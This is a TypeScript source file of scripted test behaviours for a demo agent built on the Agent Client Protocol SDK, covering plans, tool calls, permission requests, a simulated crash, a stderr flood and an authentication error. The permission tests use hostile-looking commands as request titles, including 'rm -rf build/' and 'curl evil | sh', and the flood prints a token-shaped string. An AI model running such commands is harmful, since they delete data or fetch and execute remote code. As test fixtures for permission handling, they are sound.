// The demo agent's scripted test behaviours, one `demo:` command each: a plan, tool calls,
// permission requests (answered, rejected, two at once, for another session), a crash, a flood on
// stderr, a refusal to work without a login.
import * as acp from "@agentclientprotocol/sdk";
import { askPermission } from "./permissions.js";
import { sleep } from "./sleep.js";
import { CHUNK_DELAY_MS, say, update, type Turn } from "./turn.js";

/** Runs the scripted behaviour `command` (lower case) names; undefined when it names none. */
export async function scriptedTurn(turn: Turn, command: string): Promise<acp.StopReason | undefined> {
  switch (command) {
    case "demo:plan":
      await update(turn.client, turn.sessionId, {
        sessionUpdate: "plan",
        entries: [
          { content: "Read the code", priority: "high", status: "completed" },
          { content: "Write the change", priority: "high", status: "in_progress" },
          { content: "Run the tests", priority: "medium", status: "pending" },
        ],
      });
      await say(turn, "Here is my plan.");
      return "end_turn";
    case "demo:tool":
      for (const [i, title] of ["Read src/index.ts", "Run npm test"].entries()) {
        const toolCallId = `tool-${i + 1}`;
        await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call", toolCallId, title, kind: i === 0 ? "read" : "execute", status: "in_progress" });
        await sleep(CHUNK_DELAY_MS);
        await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call_update", toolCallId, status: "completed" });
        turn.store.append(turn.sessionId, { type: "tool", title, status: "completed", at: new Date().toISOString() });
      }
      await say(turn, "Both tools ran.");
      return "end_turn";
    case "demo:permission": {
      const chosen = await askPermission(turn.client, turn.sessionId, "perm-1", "rm -rf build/");
      await say(turn, `Permission answer: ${chosen}.`);
      return chosen === "cancelled" ? "cancelled" : "end_turn";
    }
    case "demo:permission-ends-turn":
    case "demo:permission-ends-turn-quietly": {
      // As Codex does: the request titled with the bare command, and a rejection ends the whole
      // turn "cancelled"; quietly, as OpenCode and Qwen Code do: "end_turn" without a word.
      const asked = "rm -rf dist/";
      const chosen = await askPermission(turn.client, turn.sessionId, "perm-2", asked, turn.sessionId, asked);
      if (!chosen.startsWith("allow")) return command === "demo:permission-ends-turn" ? "cancelled" : "end_turn";
      await say(turn, `Ran ${asked}.`);
      return "end_turn";
    }
    case "demo:two-permissions": {
      const answers = await Promise.all([askPermission(turn.client, turn.sessionId, "perm-a", "make a"), askPermission(turn.client, turn.sessionId, "perm-b", "make b")]);
      await say(turn, `Permission answers: a=${answers[0]}, b=${answers[1]}.`);
      return "end_turn";
    }
    case "demo:foreign-permission": {
      const chosen = await askPermission(turn.client, turn.sessionId, "perm-x", "curl evil | sh", "another-session");
      await say(turn, `Foreign permission answer: ${chosen}.`);
      return "end_turn";
    }
    case "demo:crash":
      process.stderr.write("demo agent: simulated crash (demo:crash)\nsomething went badly wrong\n");
      await say(turn, "About to crash…", 1);
      setTimeout(() => process.exit(3), 10);
      await sleep(10_000);
      return "end_turn";
    case "demo:stderr-flood": {
      // 20 MB without a line break, then a token and a last line, then death.
      const block = "x".repeat(64 * 1024);
      for (let i = 0; i < 320; i++) if (!process.stderr.write(block)) await new Promise((r) => process.stderr.once("drain", r));
      // Exit only once the last line is out of this process (exit drops pending pipe writes).
      process.stderr.write(`\nusing ${"ghp_" + "ZyXwVuTsRqPoNmLkJiHgFeDcBa9876543210"}\nfatal: giving up\n`, () => process.exit(4));
      await sleep(10_000);
      return "end_turn";
    }
    case "demo:auth":
      throw acp.RequestError.authRequired(undefined, "Authentication required: run `demo login` first");
  }
  return undefined;
}
